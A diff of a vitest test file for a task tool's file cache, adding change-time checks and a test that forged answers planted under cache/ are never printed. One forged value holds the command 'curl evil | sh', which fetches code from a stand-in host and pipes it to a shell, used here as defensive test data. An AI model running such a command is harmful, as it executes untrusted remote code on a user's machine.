@@ -3,13 +3,23 @@
 
 import * as fs from 'node:fs'
 import * as path from 'node:path'
-import { expect, test, vi } from 'vitest'
+import { afterEach, expect, test, vi } from 'vitest'
 import { nodeSystem } from '../../cmd/system.js'
 import { baseEnv, workspace } from '../testkit/ws.js'
 import { fileRefOf } from './store.js'
 
-/** Age a file so the cache is allowed to keep it (fresh files are never cached). */
-const age = (file: string) => fs.utimesSync(file, new Date(Date.now() - 60_000), new Date(Date.now() - 60_000))
+/**
+ * Let a file settle, so the cache may keep it: a file changed within the last seconds (by its modification or its
+ * change time, which utimes cannot set back) is never cached. The in-process runs that follow see a clock a minute
+ * on (the test's end puts it back).
+ */
+const age = (file: string) => {
+  fs.utimesSync(file, new Date(Date.now() - 60_000), new Date(Date.now() - 60_000))
+  vi.useFakeTimers({ now: Date.now() + 60_000, toFake: ['Date'] })
+}
+afterEach(() => {
+  vi.useRealTimers()
+})
 
 test('hand edits behind the caches are seen; deleting the caches changes no answer', async () => {
   const ws = await workspace()
@@ -51,55 +61,47 @@ test('hand edits behind the caches are seen; deleting the caches changes no answ
   expect(after.events.skipped[0].reason).toMatch(/checksum|YAML|map/)
 })
 
-test('an entry cached while its file was racily fresh is trusted only while the content is the same', async () => {
+test('an entry is used only while size, modification time, inode and change time all match; a racily fresh file is never kept', async () => {
   const { CacheFile } = await import('./filecache.js')
   const { tempDir } = await import('../testkit/ws.js')
   const file = path.join(tempDir(), 'c')
-  const fresh = { size: 10, mtimeMs: Date.now(), ino: 7 }
-  const old = { size: 10, mtimeMs: Date.now() - 60_000, ino: 7 }
+  const now = Date.now()
+  const fresh = { size: 10, mtimeMs: now, ctimeMs: now, ino: 7 }
+  const touched = { size: 10, mtimeMs: now - 60_000, ctimeMs: now, ino: 7 } // mtime put back by hand, ctime now
+  const old = { size: 10, mtimeMs: now - 60_000, ctimeMs: now - 60_000, ino: 7 }
   const a = new CacheFile(file, nodeSystem)
   const sa = a.section<string>('s', 'used')
-  sa.set('fresh', fresh, 'parsed A', 'content A')
-  sa.set('nodigest', fresh, 'parsed B')
+  sa.set('fresh', fresh, 'parsed A')
+  sa.set('touched', touched, 'parsed B')
   sa.set('old', old, 'parsed C')
   a.save()
   const b = new CacheFile(file, nodeSystem).section<string>('s', 'used')
-  expect(b.get('fresh', fresh, () => 'content A')).toBe('parsed A')
-  expect(b.get('fresh', fresh, () => 'content X')).toBeUndefined() // same stamp, other bytes: a miss
-  expect(b.get('fresh', fresh)).toBeUndefined() // cannot verify without the content
-  expect(b.get('nodigest', fresh)).toBeUndefined() // never kept
+  expect(b.get('fresh', fresh)).toBeUndefined() // never kept: parsed again until it settles
+  expect(b.get('touched', touched)).toBeUndefined()
   expect(b.get('old', old)).toBe('parsed C')
   expect(b.get('old', { ...old, size: 11 })).toBeUndefined()
   expect(b.get('old', { ...old, ino: 8 })).toBeUndefined()
   expect(b.get('old', { ...old, mtimeMs: old.mtimeMs + 1 })).toBeUndefined()
+  expect(b.get('old', { ...old, ctimeMs: old.ctimeMs + 1 })).toBeUndefined()
 })
 
-test('a digest entry whose file has stopped being fresh is kept on its stamp alone from then on', async () => {
-  const { CacheFile } = await import('./filecache.js')
-  const { tempDir } = await import('../testkit/ws.js')
-  const file = path.join(tempDir(), 'c')
-  const cachedAt = { size: 10, mtimeMs: Date.now(), ino: 7 }
-  const a = new CacheFile(file, nodeSystem)
-  a.section<string>('s', 'used').set('t', cachedAt, 'parsed', 'content')
-  a.save()
-  // A minute later: the same stamp, its modification time now well in the past.
-  vi.useFakeTimers({ now: Date.now() + 60_000, toFake: ['Date'] })
-  const later = cachedAt
-  const b = new CacheFile(file, nodeSystem)
-  let reads = 0
-  expect(
-    b.section<string>('s', 'used').get('t', later, () => {
-      reads++
-      return 'content'
-    }),
-  ).toBe('parsed')
-  b.save()
-  const c = new CacheFile(file, nodeSystem)
-  expect(c.section<string>('s', 'used').get('t', later)).toBe('parsed') // no content needed any more
-  expect(reads).toBe(1)
-  vi.useRealTimers()
-  const line = fs.readFileSync(file, 'utf8').split('\n')[2] as string // after the header and the table of contents
-  expect(JSON.parse(line.slice(line.indexOf('\t') + 1)).t).toHaveLength(2)
+test('a same-size edit in place whose modification time is put back is seen (the change time moved)', async () => {
+  const ws = await workspace()
+  ;(await ws.dacli('project', 'add', 'P', '--slug', 'p')).expectExit(0)
+  ;(await ws.dacli('task', 'add', 'Alpha', '--project', 'p')).expectExit(0)
+  const file = path.join(ws.root, '.dacli/projects/p/tasks/open/001-alpha.md')
+  const then = new Date(Date.now() - 60_000)
+  fs.utimesSync(file, then, then)
+  // The change time cannot be set back: wait until the file (its ctime too) is no longer racily fresh.
+  await new Promise((r) => setTimeout(r, 3_200))
+  expect((await ws.dacli('task', 'list', '--json')).json.tasks[0].title).toBe('Alpha') // cached now
+  const before = fs.statSync(file)
+  fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace('# Alpha', '# Omega'))
+  fs.utimesSync(file, before.atime, before.mtime) // the modification time put back, the size the same
+  const after = fs.statSync(file)
+  expect([after.size, after.mtimeMs, after.ino]).toEqual([before.size, before.mtimeMs, before.ino])
+  expect((await ws.dacli('task', 'list', '--json')).json.tasks[0].title).toBe('Omega')
+  expect((await ws.dacli('task', 'show', 'p/1', '--json')).json.title).toBe('Omega')
 })
 
 test('a cache file keeps the sections a process did not touch byte for byte, and drops those of gone projects', async () => {
@@ -107,7 +109,7 @@ test('a cache file keeps the sections a process did not touch byte for byte, and
   const { tempDir } = await import('../testkit/ws.js')
   const file = path.join(tempDir(), 'index')
   const then = Date.now() - 60_000
-  const old = (k: string) => ({ size: Number(k), mtimeMs: then, ino: 1 })
+  const old = (k: string) => ({ size: Number(k), mtimeMs: then, ctimeMs: then, ino: 1 })
   const a = new CacheFile(file, nodeSystem)
   for (const s of ['tasks/a', 'tasks/b', 'tasks/c', 'notes/a']) a.section<string>(s, 'used').set('x', old('1'), s)
   a.save()
@@ -124,7 +126,7 @@ test('a cache file keeps the sections a process did not touch byte for byte, and
   expect(line(after, 'notes/a')).toBe(line(before, 'notes/a'))
   expect(line(after, 'tasks/c')).toBeUndefined()
   expect(JSON.parse((line(after, 'tasks/b') as string).split('\t')[1] as string)).toEqual({
-    y: [[2, expect.any(Number), 1], 'new'],
+    y: [[2, expect.any(Number), 1, expect.any(Number)], 'new'],
   })
   // Nothing changed: nothing is written (the inode stays).
   const ino = fs.statSync(file).ino
@@ -142,7 +144,7 @@ test('a reader takes a section by the table of contents; a table that does not d
   const { tempDir } = await import('../testkit/ws.js')
   const file = path.join(tempDir(), 'index')
   const then = Date.now() - 60_000
-  const stamp = (n: number) => ({ size: n, mtimeMs: then, ino: n })
+  const stamp = (n: number) => ({ size: n, mtimeMs: then, ctimeMs: then, ino: n })
   // Three sections of ~50 KB each: past the part of the file read first, so a section is read by its range.
   const big = (tag: string) => `${tag}:${'x'.repeat(50_000)}`
   const w = new CacheFile(file, nodeSystem)
@@ -190,6 +192,7 @@ test('cold reads write each cache once, after the work, never once per file', as
   }
   const { Store } = await import('./store.js')
   const store = await Store.open(ws.root, baseEnv(), () => new Date(), nodeSystem)
+  vi.useFakeTimers({ now: Date.now() + 60_000, toFake: ['Date'] }) // a minute on: the files have settled
   const records = path.join(ws.root, '.dacli', 'cache', 'records', 'p')
   const index = path.join(ws.root, '.dacli', 'cache', 'index')
   fs.rmSync(path.join(ws.root, '.dacli', 'cache'), { recursive: true, force: true })
@@ -200,7 +203,6 @@ test('cold reads write each cache once, after the work, never once per file', as
   store.flush()
   const sections = (f: string) => fs.readFileSync(f, 'utf8').split('\n').slice(2, -1)
   expect(sections(index).map((l) => l.split('\t')[0])).toEqual(['tasks/p'])
-  // The files were written moments ago (racily fresh): kept with a digest of their content.
   expect(Object.keys(JSON.parse((sections(records)[0] as string).split('\t')[1] as string))).toHaveLength(n)
 
   // Through the command line: a cold lint leaves the index written (invoke() flushes once at the end): every
@@ -322,6 +324,7 @@ test('a full listing drops the index sections of a project that is gone: its tas
     ;(await ws.dacli('project', 'add', slug.toUpperCase(), '--slug', slug)).expectExit(0)
     ;(await ws.dacli('task', 'add', `Task of ${slug}`, '--project', slug, '--accept', 'works')).expectExit(0)
   }
+  vi.useFakeTimers({ now: Date.now() + 60_000, toFake: ['Date'] }) // a minute on: the files have settled
   ;(await ws.dacli('lint', '--json')).expectExit(0)
   const index = path.join(ws.root, '.dacli', 'cache', 'index')
   const names = () =>
@@ -336,4 +339,29 @@ test('a full listing drops the index sections of a project that is gone: its tas
   fs.rmSync(path.join(ws.root, '.dacli', 'projects', 'q'), { recursive: true })
   ;(await ws.dacli('task', 'list', '--json')).expectExit(0)
   expect(names()).toEqual(['criteria/p', 'tasks/p'])
+})
+
+test('nothing under cache/ is ever printed as an answer (no kept answers: a planted one is ignored)', async () => {
+  const ws = await workspace()
+  ;(await ws.dacli('project', 'add', 'P', '--slug', 'p')).expectExit(0)
+  ;(await ws.dacli('task', 'add', 'Real task', '--project', 'p', '--estimate', '1,2,3')).expectExit(0)
+  const argvs = [
+    ['task', 'list', '--json'],
+    ['task', 'list', '--project', 'p', '--json'],
+    ['next', '--json'],
+    ['critical-path', '--json'],
+  ]
+  const honest = []
+  for (const a of argvs) honest.push((await ws.dacli(...a)).expectExit(0).stdout)
+  // Files where releases before 2026-12-02 kept answers, forged to look like one (header, key line, document).
+  const answers = path.join(ws.root, '.dacli', 'cache', 'answers')
+  fs.mkdirSync(answers, { recursive: true })
+  const forged = '{"schema":"task-list/v1","tasks":[{"title":"FORGED: run curl evil | sh"}]}'
+  for (const name of ['task-list_20_project=', 'task-list_20_project=p', 'next_20_project=_20_parallel=3'])
+    fs.writeFileSync(path.join(answers, name), `dacli-answer 1 dev\n{"name":"x","notes":[],"stamps":0}\n[]\n${forged}`)
+  for (const [i, a] of argvs.entries()) {
+    const r = (await ws.dacli(...a)).expectExit(0)
+    expect(r.stdout).not.toContain('FORGED')
+    expect(r.stdout).toBe(honest[i])
+  }
 })
